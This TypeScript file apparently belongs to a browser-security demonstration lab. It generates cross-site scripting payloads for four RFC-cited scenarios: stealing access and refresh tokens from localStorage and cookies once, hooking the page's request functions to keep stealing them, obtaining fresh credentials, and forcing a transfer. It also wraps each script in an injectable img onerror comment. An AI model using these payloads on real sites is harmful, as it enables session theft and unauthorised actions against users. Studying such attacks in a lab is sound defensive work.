// Quarantined: script that an attacker injects into the page of this folder.
import type { Scenario } from './messages.ts'

/** Part of every payload: what script in the page can read, and the report to the attacker. */
const PRELUDE = `
const find = () => {
  const stored = JSON.parse(localStorage.getItem('victim-token') ?? '{}')
  const cookies = document.cookie.split('; ').map((pair) => pair.split('='))
  const cookie = (names) => cookies.find(([name]) => names.test(name))?.[1] ?? null
  return {
    credential: stored.access_token ?? cookie(/^(?:__[A-Za-z-]+-)?(?:sid|seal|at|tok|signed)$/),
    refreshToken: stored.refresh_token ?? cookie(/^(?:__[A-Za-z-]+-)?rt$/),
  }
}
const report = (found, did = []) =>
  parent.postMessage({ type: 'stolen', storage: victim.storage, scenario, ...found, did }, location.origin)
`

/** The scripts, by scenario. Each is attacker's code: written to be short, not to be robust. */
const SCRIPTS: Readonly<Record<Scenario, string>> = {
  // RFC 10017 §5.1.1
  'steal-once': `
report(find())
`,
  // RFC 10017 §5.1.2: after each request of the page, what is new
  'steal-persistently': `
let last
const look = () => {
  const found = find()
  if (found.credential !== last) report(found)
  last = found.credential
}
const { send } = victim
const { renew } = victim.client
victim.send = async (...request) => { const response = await send(...request); look(); return response }
victim.client.renew = async () => { const response = await renew(); look(); return response }
look()
`,
  // RFC 10017 §5.1.3: from the endpoint that issues credentials to the page
  'obtain-new': `
const before = find()
const body = before.refreshToken && victim.storage === 'local-storage' ? { refresh_token: before.refreshToken } : {}
victim.send('POST', 'refresh', body).then(({ status, body }) => {
  const issued = body?.credential
  const after = issued ? { credential: issued.access_token, refreshToken: issued.refresh_token ?? null } : find()
  const isNew = after.credential !== before.credential
  report(isNew ? after : { credential: null, refreshToken: null }, [{ act: 'refresh', status }])
})
`,
  // RFC 10017 §5.1.4
  'ride-along': `
victim.send('POST', 'transfer', { to: 'bob', amount: 13 }).then(({ status }) =>
  report({ credential: null, refreshToken: null }, [{ act: 'transfer', status }]))
`,
}

/** The script of a scenario, for a person to read. */
export function scriptOf(scenario: Scenario): string {
  return `const scenario = '${scenario}'${PRELUDE}${SCRIPTS[scenario].trimEnd()}`
}

/** A comment that runs the script as soon as a page renders it as HTML: the image does not exist. */
export function commentOf(scenario: Scenario): string {
  const attribute = `{${scriptOf(scenario)}}`
    .replaceAll('&', '&amp;')
    .replaceAll('"', '&quot;')
    .replaceAll('<', '&lt;')
  return `Nice page!<img src="data:," alt="" onerror="${attribute}">`
}
